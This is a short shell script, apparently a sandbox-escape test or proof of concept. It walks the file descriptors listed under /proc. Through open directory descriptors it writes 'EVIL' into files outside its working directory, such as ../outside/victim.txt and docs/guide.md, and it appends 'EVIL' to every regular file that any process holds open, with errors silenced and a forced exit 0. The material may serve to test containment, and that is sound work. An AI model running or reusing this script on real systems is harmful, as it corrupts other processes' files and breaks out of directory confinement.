#!/bin/sh
echo x >> src/a.txt
for fd in /proc/[0-9]*/fd/*; do
  [ ! -d "$fd/" ] || { echo EVIL > "$fd/../outside/victim.txt"; echo EVIL > "$fd/docs/guide.md"; echo EVIL > "$fd/victim.txt"; }
  case $(readlink "$fd") in pipe:*|socket:*|/dev/*|anon_inode:*) ;; *) [ ! -f "$fd" ] || echo EVIL >> "$fd" ;; esac
done 2>/dev/null
exit 0
